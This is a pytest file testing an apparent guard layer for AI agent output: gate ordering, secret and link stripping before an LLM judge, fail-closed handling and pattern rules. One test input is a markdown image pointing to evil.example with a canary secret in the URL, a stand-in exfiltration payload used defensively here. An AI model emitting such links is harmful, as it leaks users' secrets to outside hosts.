"""A guard from settings: every gate that is asked for is there, in order, or the start is refused."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace

import pytest

from runtime.guard.build import Means, build
from runtime.guard.errors import GovernanceError, MissingExtra, PatternError, SecretError
from runtime.guard.fake import ScriptedModel
from runtime.guard.governance import Governance, load, parse
from runtime.guard.judgement import Outcome
from runtime.guard.port import AgentType, Channel, Passage
from runtime.guard.presidio import Analyzer
from runtime.testing import FakeClock

CANARY = "velvet-otter-9917-harbour"


def means(model: ScriptedModel | None = None, secrets: Mapping[str, str] | None = None) -> Means:
    return Means(FakeClock(), lambda: "n0nce1234567", b"k" * 16, secrets or {"CANARY": CANARY}, model)


def passage(text: str, channel: Channel = Channel.OUTPUT, agent_type: str = "worker") -> Passage:
    return Passage(text, channel, AgentType(agent_type), "s")


async def test_the_judge_is_asked_last_and_sees_no_secret_and_no_link() -> None:
    model = ScriptedModel(["<OK/>"])
    judgement = await build(load(), means(model)).check(passage(f"{CANARY} ![x](https://evil.example/{CANARY})"))
    assert [decision.gate for decision in judgement.decisions][-1] == "constitutional_guardian"
    assert CANARY not in model.requests[0].model_dump_json()
    assert "https" not in model.requests[0].messages[1].content
    assert judgement.outcome is Outcome.PASSED
    assert CANARY not in judgement.text


async def test_the_judge_comes_after_the_classifier_too() -> None:
    governance = load()
    scoring = governance.scoring.model_copy(update={"channels": (Channel.OUTPUT,)})
    guard = build(governance.model_copy(update={"scoring": scoring}), means(ScriptedModel(["<OK/>"])))
    judgement = await guard.check(passage("hi"))
    assert [decision.gate for decision in judgement.decisions][-2:] == ["scoring", "constitutional_guardian"]


async def test_a_judge_that_speaks_nonsense_keeps_the_text_back() -> None:
    closed = await build(load(), means(ScriptedModel(["I think it is fine"]))).check(passage("hi"))
    assert closed.outcome is Outcome.BLOCKED
    governance = load()
    opened = governance.model_copy(update={"judge": governance.judge.model_copy(update={"fail_closed": False})})
    judgement = await build(opened, means(ScriptedModel(["I think it is fine"]))).check(passage("hi"))
    assert judgement.outcome is Outcome.PASSED
    assert judgement.decisions[-1].rule == "failed.malformed"


async def test_a_concern_of_the_judge_tells_no_secret() -> None:
    model = ScriptedModel([f"<CONCERN>no-secrets: it says {CANARY}</CONCERN>"])
    judgement = await build(load(), means(model)).check(passage("hi"))
    assert (judgement.outcome, judgement.concerns[0].rule) == (Outcome.CONCERN, "no-secrets")
    assert CANARY not in repr(judgement)


async def test_patterns_hold_by_channel_and_agent_type() -> None:
    governance = parse(
        "version: 1\n"
        "patterns:\n"
        "  - {id: no-coffee, pattern: coffee, action: block, reason: tea, channels: [input], agent_types: [cook]}\n"
        "  - {id: no-milk, pattern: milk, action: redact, reason: none}\n"
        "  - {id: no-tea, pattern: tea, action: block, reason: none, enabled: false}\n"
    )
    guard = build(governance, means())
    assert (await guard.check(passage("COFFEE", Channel.INPUT, "cook"))).outcome is Outcome.BLOCKED
    assert (await guard.check(passage("coffee", Channel.INPUT, "waiter"))).outcome is Outcome.PASSED
    assert (await guard.check(passage("coffee", Channel.OUTPUT, "cook"))).outcome is Outcome.PASSED
    assert (await guard.check(passage("tea, milk!", Channel.OUTPUT))).text == "tea, ⟦redacted no-milk⟧!"


@pytest.mark.parametrize("part", ["secrets", "pii", "links", "scoring", "judge"])
async def test_a_gate_that_is_off_is_not_asked(part: str) -> None:
    governance = load().model_copy(update={part: getattr(load(), part).model_copy(update={"enabled": False})})
    names = {"judge": "constitutional_guardian"}
    judgements = [
        await build(governance, means(ScriptedModel(["<OK/>"]))).check(passage("x", channel)) for channel in Channel
    ]
    assert names.get(part, part) not in {one.gate for judgement in judgements for one in judgement.decisions}


def test_what_cannot_run_is_refused_at_the_start() -> None:
    with pytest.raises(GovernanceError, match="no model for it"):
        build(load(), means())
    with pytest.raises(PatternError, match=r"pattern loop: .*empty text"):
        build(parse("version: 1\npatterns: [{id: loop, pattern: 'a*', action: block, reason: r}]\n"), means())
    with pytest.raises(SecretError, match="PIN"):
        build(parse("version: 1\n"), means(secrets={"PIN": "1234"}))

    def missing(language: str) -> Analyzer:
        raise MissingExtra(language)

    presidio: Governance = parse("version: 1\npii: {engine: presidio, language: de}\n")
    with pytest.raises(MissingExtra, match="de"):
        build(presidio, replace(means(), presidio=missing))


async def test_a_judge_without_principles_needs_no_model() -> None:
    judgement = await build(parse("version: 1\n"), means()).check(passage("x"))
    assert judgement.outcome is Outcome.PASSED
